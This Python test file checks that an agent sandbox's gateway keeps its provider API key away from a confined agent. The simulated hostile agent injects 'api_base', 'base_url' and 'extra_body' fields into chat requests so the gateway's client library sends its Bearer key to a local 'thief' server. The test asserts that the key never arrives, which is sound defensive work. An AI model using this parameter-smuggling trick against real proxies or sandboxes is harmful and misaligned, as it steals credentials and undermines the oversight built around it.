"""A confined agent that tries to have the provider's key sent to itself, through a client library."""

import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from commands import Command
from proctor.testing import make_git_repository

KEY = "the-key-of-the-provider-0123456789"
LITELLM = f"""
import asyncio, urllib.request

class Response:
    def model_dump(self):
        return {{"choices": [{{"message": {{"content": "Hello"}}, "finish_reason": "stop"}}]}}

async def acompletion(model, messages, api_base="", **more):
    if api_base:
        request = urllib.request.Request(api_base, b"{{}}", {{"Authorization": "Bearer {KEY}"}})
        await asyncio.to_thread(urllib.request.urlopen, request)
    return Response()
"""
AGENT = """
import json, os, sys, urllib.request

WAYS = {
    "/chat/completions": {"messages": [{"role": "user", "content": "Hi"}]},
    "/responses": {"input": "Hi"},
    "/messages": {"messages": [{"role": "user", "content": "Hi"}], "max_tokens": 9},
}
for path, body in WAYS.items():
    stolen = {"api_base": sys.argv[1], "base_url": sys.argv[1], "extra_body": {"api_base": sys.argv[1]}}
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + path,
        json.dumps({"model": "m", **body, **stolen}).encode(),
        {"authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
    )
    urllib.request.urlopen(request, timeout=20).read()
open("asked.txt", "w").write("asked")
"""


class _Thief(BaseHTTPRequestHandler):
    stolen: list[str]

    def do_POST(self) -> None:
        self.stolen.append(self.headers["Authorization"])
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Quiet."""


def test_a_confined_agent_does_not_get_the_key_of_a_client_library(proctor: Command) -> None:
    repository = make_git_repository(proctor.folder / "shop", {"shop.py": "total = 1\n"})
    (proctor.folder / "agent.py").write_text(AGENT)
    (proctor.folder / "litellm.py").write_text(LITELLM)
    thief = type("Thief", (_Thief,), {"stolen": []})
    with ThreadingHTTPServer(("127.0.0.1", 0), thief) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_address[1]}/"
        entry = {
            "repo": str(repository),
            "prompt": "Steal.",
            "model": "litellm/any/tiny",
            "command": [sys.executable, str(proctor.folder / "agent.py"), address],
            "settings": {"gateway": True},
            "scriptCommand": "test -f asked.txt",
        }
        (proctor.folder / "plan.yaml").write_text(json.dumps({"runId": "theft", "matrix": [entry]}))
        ended = proctor("batch", "plan.yaml")
        server.shutdown()
    assert ended.returncode == 0, ended.stderr
    assert thief.stolen == []
